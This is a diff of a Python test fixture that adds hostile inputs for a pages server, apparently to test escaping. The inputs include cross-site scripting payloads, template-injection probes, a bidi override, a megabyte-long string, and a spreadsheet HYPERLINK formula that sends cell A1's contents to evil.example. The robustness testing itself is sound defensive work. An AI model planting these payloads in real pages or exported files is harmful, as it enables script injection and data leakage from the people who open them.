@@ -21,6 +21,9 @@ HOSTILE = (
     "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
     " {{ 7 * 7 }} javascript:alert(1) \u202edesrever\u202c \U0001f469\u200d\U0001f4bb שלום"
 )
+#: The same where names and addresses are given, and what a spreadsheet would compute.
+NAMED = "<svg/onload=document.title='owned'><math href=javascript:alert(1)>{{7*7}}{%x%}${7*7}\u202e" + "W" * 100
+FORMULA = '=HYPERLINK("http://evil.example/" & A1, "look")'
 LONG = "word " * 50_000
 _SERVER = Path(__file__).with_name("pages_server.py")
 
@@ -50,6 +53,17 @@ def fill(root):
         told = {
             "use Oxigraph": decision(summary="Use Oxigraph for the index", topic="the store of the pages"),
             "hostile": intent(summary=HOSTILE, rationale=HOSTILE, about=["javascript:alert(1)"], evidence=[HOSTILE]),
+            "named": intent(
+                summary=FORMULA,
+                topic=NAMED,
+                asserted_by=NAMED,
+                asserted_in=NAMED,
+                about=[NAMED, "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"],
+                evidence=[NAMED, "https://evil.example/%22%3E%3Cscript%3E"],
+            ),
+            "a megabyte": intent(
+                summary=f"Much {LONG}", rationale=LONG, detailed_explanation=f"{LONG}.", evidence=[f"{LONG}!"]
+            ),
             "long": intent(summary="A long one", detailed_explanation=LONG),
             "old": intent(summary="The certificate holds", expires_on="2026-11-21T22:00:00Z"),
         }
